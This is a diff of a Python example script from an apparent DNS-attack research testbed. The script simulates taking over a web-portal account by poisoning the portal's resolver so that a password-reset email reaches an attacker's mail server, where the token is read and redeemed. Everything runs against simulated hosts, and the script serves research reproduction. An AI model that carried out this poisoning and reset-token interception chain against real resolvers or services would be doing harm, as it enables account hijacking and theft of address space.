@@ -4,71 +4,50 @@
 The attacker wants Bob's account at a web service (think: an RIR SSO
 portal controlling IP address space).  Bob's account is protected by a
 password the attacker does not know — but recovery emails travel by MX
-lookup through the *service's* resolver:
+lookup through the *service's* resolver.  The kill-chain API runs the
+whole §4.5 chain in one call:
 
-1. poison ``mail.partner.im``'s A record at the service's resolver;
-2. click "forgot password" for Bob's account;
-3. the reset token lands on the attacker's mail server;
-4. redeem the token, set a new password, own the account.
+1. the application stage ("recovery") stands up the portal, Bob's
+   genuine mail server and the attacker's counterfeit one;
+2. the attack phase (HijackDNS here; any methodology works) poisons
+   the portal resolver's view of Bob's mail route;
+3. the workload clicks "forgot password", the reset token lands on the
+   attacker's server, gets redeemed, and the account changes hands.
 
 Run:  python examples/account_takeover.py
 """
 
-from repro.apps.email_ import SmtpServer
-from repro.apps.web import Account, PasswordRecoveryService
-from repro.attacks.base import plant_poison
-from repro.dns.records import rr_a, rr_mx
-from repro.dns.stub import StubResolver
-from repro.testbed import Testbed
+from repro.scenario import AppSpec, AttackScenario, TriggerSpec
 
 
 def main() -> None:
-    bed = Testbed(seed="takeover")
-    bed.add_domain("rir-portal.im", "123.8.0.53", records=[
-        rr_mx("rir-portal.im", 10, "mail.rir-portal.im"),
-        rr_a("mail.rir-portal.im", "30.0.0.10"),
-    ])
-    bed.add_domain("partner.im", "123.8.1.53", records=[
-        rr_mx("partner.im", 10, "mail.partner.im"),
-        rr_a("mail.partner.im", "40.0.0.10"),
-    ])
-    resolver = bed.make_resolver("30.0.0.1")
-    resolver.config.allowed_clients = ["30.0.0.0/24", "40.0.0.0/24"]
+    scenario = AttackScenario(
+        method="hijack",
+        app_spec=AppSpec(app="recovery"),
+        trigger=TriggerSpec(kind="app"),   # the app fires the query
+    )
+    built = scenario.build(seed="takeover")
+    chain = built.execute()
 
-    portal_mail_host = bed.make_host("portal-mail", "30.0.0.10")
-    portal_mail = SmtpServer(portal_mail_host,
-                             StubResolver(portal_mail_host, "30.0.0.1"),
-                             "rir-portal.im", users=["noc"])
-    bob_mail_host = bed.make_host("bob-mail", "40.0.0.10")
-    bob_mail = SmtpServer(bob_mail_host,
-                          StubResolver(bob_mail_host, "30.0.0.1"),
-                          "partner.im", users=["bob"])
-    portal = PasswordRecoveryService(portal_mail)
-    portal.register(Account("bob-lir", "bob@partner.im", "hunter2"))
+    print(chain.describe())
+    print()
+    stage = chain.app_result
+    for outcome in stage.outcomes:
+        print(" ", outcome.describe())
+    assert chain.success and stage.realized and stage.takeover
 
-    # Sanity: recovery normally reaches Bob.
-    portal.request_recovery("bob-lir")
-    print("recovery mail reached Bob's real server:",
-          len(bob_mail.inboxes["bob"]), "message(s)")
-
-    # The attack: poison the portal resolver's view of Bob's MX host.
-    evil_host = bed.make_host("evil-mail", "6.6.6.7", spoofing=True)
-    evil_mail = SmtpServer(evil_host, StubResolver(evil_host, "30.0.0.1"),
-                           "partner.im", users=["bob"])
-    plant_poison(resolver, [rr_a("mail.partner.im", "6.6.6.7", ttl=3600)])
-    portal.request_recovery("bob-lir")
+    service = built.app_ctx["service"]
+    evil_mail = built.app_ctx["evil_mail"]
     stolen = evil_mail.inboxes["bob"][-1].body
-    token = stolen.split(": ")[1]
-    print("attacker intercepted reset token:", token)
-
-    outcome = portal.redeem("bob-lir", token, "attacker-owns-this")
-    print("token redeemed:", outcome.ok)
+    print()
+    print("attacker intercepted:", stolen)
     print("attacker can log in:",
-          portal.login("bob-lir", "attacker-owns-this"))
+          service.login("bob-account", "attacker-pw"))
     print("bob's old password works:",
-          portal.login("bob-lir", "hunter2"))
-    print("\nWith the LIR account, the attacker now controls the IP "
-          "space and domains registered to it (paper §4.5).")
+          service.login("bob-account", "correct-horse"))
+    print("\nWith the portal account, the attacker now controls the IP "
+          "space and domains registered to it (paper §4.5).  Sweep this "
+          "at scale with:  python -m repro.scenario sweep --apps recovery")
 
 
 if __name__ == "__main__":
